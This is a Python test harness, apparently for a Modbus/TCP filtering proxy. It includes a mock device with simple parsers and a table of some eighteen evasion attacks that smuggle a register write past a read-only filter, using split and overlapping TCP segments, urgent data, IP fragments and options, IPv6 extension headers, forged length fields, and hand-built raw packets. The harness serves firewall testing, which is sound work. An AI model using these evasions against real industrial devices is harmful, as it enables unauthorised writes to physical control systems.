"""The two ends of a guarded conduit: a device that does whatever its byte stream says, and clients that try everything."""
import os, random, select, socket, struct, sys, time

READ = struct.pack('>HHHBBHH', 1, 0, 6, 1, 3, 0, 2)
WRITE = struct.pack('>HHHBBHH', 2, 0, 6, 1, 6, 5, 0x1234)


def by_length(held):
    """Bytes of the first request to a device that trusts every length."""
    return 6 + struct.unpack('>H', held[4:6])[0] if len(held) >= 6 else None


def by_function(held):
    """The same to one that looks at no length of the header, as simple devices do."""
    if len(held) < 8: return None
    code = held[7]
    if code in (15, 16): return 13 + held[12] if len(held) > 12 else None
    if code == 23: return 17 + held[16] if len(held) > 16 else None
    return 14 if code == 22 else 12


def serve(host, port):
    """
    Prints each request that it carries out. Two real devices with simple parsers: that of IPv4 goes by lengths and leaves
    urgent bytes in its stream, that of IPv6 goes by functions and takes them out.
    """
    family = socket.AF_INET6 if ':' in host else socket.AF_INET
    size_of = by_function if ':' in host else by_length
    server = socket.socket(family, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((host, port))
    server.listen(16)
    print('ready', flush=True)
    import threading
    def talk(link):
        link.setsockopt(socket.SOL_SOCKET, socket.SO_OOBINLINE, 0 if ':' in host else 1)
        held = b''
        try:
            while chunk := link.recv(4096):
                held += chunk
                while (size := size_of(held)) and len(held) >= size:
                    frame, held = held[:size], held[size:]
                    if size < 8: continue
                    unit, code = frame[6], frame[7]
                    if code in (5, 6, 15, 16, 22, 23): print('write', frame[6:].hex(), flush=True)
                    else: print('read', frame[6:].hex(), flush=True)
                    if size < 12: continue
                    if code in (1, 2): body = bytes([unit, code, 1, 1])
                    elif code in (3, 4):
                        count = struct.unpack('>H', frame[10:12])[0]
                        body = bytes([unit, code, count * 2 & 255]) + b'\0\7' * count
                    else: body = frame[6:12]
                    link.sendall(frame[:4] + struct.pack('>H', len(body)) + body)
        except OSError: pass
    while True:
        threading.Thread(target=talk, args=(server.accept()[0],), daemon=True).start()


def opened(host, port):
    link = socket.create_connection((host, port), 5)
    link.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    link.settimeout(2)
    return link


def living(host, port):
    """One connection for good. Reads all the time, prints each answer; writes once when told so on standard input."""
    link = opened(host, port)
    link.settimeout(None)
    print('open', flush=True)
    number = 0
    while True:
        number += 1
        wants = select.select([sys.stdin], [], [], 0)[0] and sys.stdin.readline() == 'write\n'
        ask = struct.pack('>HHHBBHH', number & 0xffff, 0, 6, 1, 6 if wants else 3, 5 if wants else 0, 9 if wants else 2)
        link.sendall(ask)
        got = answers_one(link)
        if got[:2] != ask[:2]: raise SystemExit('an answer to something else')
        print('write' if wants else 'read', 'refused' if got[7] & 0x80 else 'done', got[8] if got[7] & 0x80 else '', flush=True)
        time.sleep(0.02)


def marker(host, port, unit):
    """A read of its own unit, behind everything that was sent before."""
    link = opened(host, port)
    link.sendall(struct.pack('>HHHBBHH', 9, 0, 6, unit, 3, 0, 1))
    if answers_one(link)[6:8] != bytes([unit, 3]): raise SystemExit('no answer to the marker')


def answers_one(link):
    got = b''
    while len(got) < 6 or len(got) < 6 + struct.unpack('>H', got[4:6])[0]:
        chunk = link.recv(4096)
        if not chunk: raise SystemExit('closed')
        got += chunk
    return got


def answers(link):
    """Everything that comes until the other end has nothing more to say."""
    got = b''
    try:
        while chunk := link.recv(4096): got += chunk
    except (TimeoutError, OSError): pass
    return got


def checksum(data):
    if len(data) % 2: data += b'\0'
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


class Raw:
    """TCP over IPv4 by hand; whoever calls keeps the kernel from answering with resets."""
    def __init__(self, host, port, options=b''):
        self.host, self.port, self.own = host, port, random.randrange(20_000, 30_000)
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.connect((host, 9))
        self.source, self.options = probe.getsockname()[0], options
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.ears = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.ears.settimeout(2)
        self.seq, self.ack = 1_000, 0
        self.send(0x02, b'')
        self.seq += 1
        self.ack = self.hear() + 1
        self.send(0x10, b'')

    def packet(self, flags, data, seq, urgent=0):
        head = struct.pack('>HHIIBBHHH', self.own, self.port, seq, self.ack, 5 << 4, flags, 8192, 0, urgent)
        ends = socket.inet_aton(self.source) + socket.inet_aton(self.host)
        total = checksum(ends + struct.pack('>BBH', 0, 6, len(head) + len(data)) + head + data)
        return head[:16] + struct.pack('>H', total) + head[18:] + data

    def wire(self, body, offset=0, more=False, ident=None):
        length = 20 + len(self.options) + len(body)
        head = struct.pack('>BBHHHBBH4s4s', 0x40 + 5 + len(self.options) // 4, 0, length,
                           ident or random.randrange(1, 65_535), (0x2000 if more else 0) | offset // 8, 64, 6, 0,
                           socket.inet_aton(self.source), socket.inet_aton(self.host)) + self.options
        head = head[:10] + struct.pack('>H', checksum(head)) + head[12:]
        self.raw.sendto(head + body, (self.host, 0))

    def send(self, flags, data, at=None, urgent=0):
        self.wire(self.packet(flags, data, self.seq if at is None else at, urgent))

    def fragments(self, data):
        body, ident = self.packet(0x18, data, self.seq), random.randrange(1, 65_535)
        for offset in range(0, len(body), 8):
            self.wire(body[offset:offset + 8], offset, offset + 8 < len(body), ident)

    def hear(self):
        end = time.monotonic() + 3
        while time.monotonic() < end:
            packet = self.ears.recv(4096)
            at = (packet[0] & 15) * 4
            if struct.unpack('>HH', packet[at:at + 4]) == (self.port, self.own) and packet[at + 13] & 0x12 == 0x12:
                return struct.unpack('>I', packet[at + 4:at + 8])[0]
        raise SystemExit('no connection')


def bytewise(host, port):
    link = opened(host, port)
    for byte in READ + WRITE:
        link.send(bytes([byte]))
        time.sleep(0.002)
    return link


def whole(*parts):
    def attack(host, port):
        link = opened(host, port)
        for part in parts:
            link.sendall(part)
            time.sleep(0.02)
        return link
    return attack


def urgent(host, port):
    """A write to whoever leaves the urgent byte in, its function; a read to whoever takes it out."""
    link = opened(host, port)
    link.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 1)
    link.send(READ[:7] + WRITE[7:8], socket.MSG_OOB)
    link.sendall(READ[7:])
    link.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 0)
    return link


def urgent_within(host, port):
    """
    A read to whoever leaves the urgent byte in; a write to whoever takes it out: its function goes. In one segment or in
    two, each has the function of a read where that belongs.
    """
    link = opened(host, port)
    link.send(READ[:8], socket.MSG_OOB)
    link.sendall(WRITE[7:] + READ[:2] + READ[7:])
    return link


def overlap(host, port):
    """Each segment looks like a read of its own; what they add up to has a write behind the first one."""
    raw = Raw(host, port)
    raw.send(0x18, READ)
    start = raw.seq
    for at in range(12, 24, 2):
        raw.send(0x18, READ[:10] + WRITE[at - 12:at - 10], start + at - 10)
    return None


def fragments(host, port):
    Raw(host, port).fragments(WRITE)
    return None


def ip_options(host, port):
    Raw(host, port, b'\x01\x01\x01\x01').send(0x18, WRITE)
    return None


def extension(host, port):
    """IPv6 with destination options in front of TCP, as setsockopt lets anybody send them."""
    link = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    IPV6_DSTOPTS = 59
    link.setsockopt(socket.IPPROTO_IPV6, IPV6_DSTOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
    link.settimeout(2)
    link.connect((host, port))
    link.sendall(WRITE)
    return link


ATTACKS = {
    'plain': whole(WRITE),
    'pipelined': whole(READ + WRITE),
    'split': whole(WRITE[:7], WRITE[7:]),
    'split in the header': whole(WRITE[:3], WRITE[3:]),
    'merged and split': whole(READ + WRITE[:9], WRITE[9:] + READ),
    'bytewise': bytewise,
    'urgent': urgent,
    'urgent within a read': urgent_within,
    'overlap': overlap,
    'fragments': fragments,
    'ip options': ip_options,
    'extension headers': extension,
    'a length that covers the write': whole(struct.pack('>HHHBBHH', 1, 0, 18, 1, 3, 0, 2) + WRITE),
    'a length that ends early': whole(struct.pack('>HHHBB', 1, 0, 2, 1, 3) + WRITE),
    'a length of nothing': whole(struct.pack('>HHH', 1, 0, 0) + WRITE),
    'another protocol id': whole(struct.pack('>HHHBBHH', 1, 1, 6, 1, 3, 0, 2) + WRITE),
    'an oversized length': whole(struct.pack('>HHHBBHH', 1, 0, 0xffff, 1, 3, 0, 2) + WRITE),
    'read and write': whole(struct.pack('>HHHBBHHHHBH', 1, 0, 13, 1, 23, 0, 1, 5, 1, 2, 0x1234)),
}

if __name__ == '__main__':
    command, host, port, *names = sys.argv[1:]
    if command == 'serve': serve(host, int(port))
    elif command == 'living': living(host, int(port))
    elif command == 'marker': marker(host, int(port), int(names[0]))
    elif command == 'attack':
        for name in names:
            try:
                link = ATTACKS[name](host, int(port))
                if link is not None:
                    try: link.shutdown(socket.SHUT_WR)
                    except OSError: pass
                print(name, ':', answers(link).hex() if link is not None else 'sent', flush=True)
            except OSError as error: print(name, ': no way,', error, flush=True)
    elif command in ('pymodbus', 'pymodbus-reads'):
        from unittest import mock
        # It wants these for serial lines alone; a minimal system does not have them.
        for module in ('serial', 'serial_asyncio'): sys.modules.setdefault(module, mock.MagicMock())
        from pymodbus.client import ModbusTcpClient
        client = ModbusTcpClient(host, port=int(port), timeout=2, retries=1)
        print('connected', client.connect())
        print('read', client.read_holding_registers(0, 2, slave=1).registers)
        if command == 'pymodbus-reads':
            print('read', client.read_input_registers(1, 1, slave=1).registers)
            print('read', client.read_coils(0, 1, slave=1).bits)
            print('read', client.read_discrete_inputs(0, 1, slave=1).bits)
        else:
            print('write', client.write_register(5, 7, slave=1))
            print('read', client.read_input_registers(1, 1, slave=1).registers)
